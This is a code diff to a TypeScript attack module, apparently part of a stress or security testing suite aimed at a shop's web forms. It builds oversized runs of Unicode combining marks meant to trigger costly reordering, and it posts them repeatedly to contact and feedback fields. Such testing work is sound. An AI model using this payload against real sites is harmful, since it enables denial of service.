@@ -2,7 +2,9 @@
 import { type Attack, keepSending, postForm } from "./attack.ts";
 
 /** Two marks that must change places: each is compared with all before it. */
-const MARKS = encodeURIComponent("\u0300\u0316".repeat(30_000));
+const marks = (count: number) => encodeURIComponent("\u0300\u0316".repeat(count / 2));
+/** More than any form may have, and as many as fit into one. */
+const SIZES = [marks(60_000), marks(10_000)];
 const FIELDS: [path: string, field: string][] = [
   ["/contact", "name"],
   ["/feedback", "message"],
@@ -12,10 +14,11 @@ const FIELDS: [path: string, field: string][] = [
 ];
 
 export const combiningMarks: Attack = {
-  name: "60,000 combining marks in a field",
+  name: "thousands of combining marks in a field",
   run: (shop, until) =>
     keepSending(2, until, (count) => {
       const [path, field] = FIELDS[count % FIELDS.length] ?? ["/contact", "name"];
-      return postForm(shop, path, `${field}=a${MARKS}`, until);
+      const size = SIZES[Math.floor(count / FIELDS.length) % SIZES.length];
+      return postForm(shop, path, `${field}=a${size}`, until);
     }),
 };
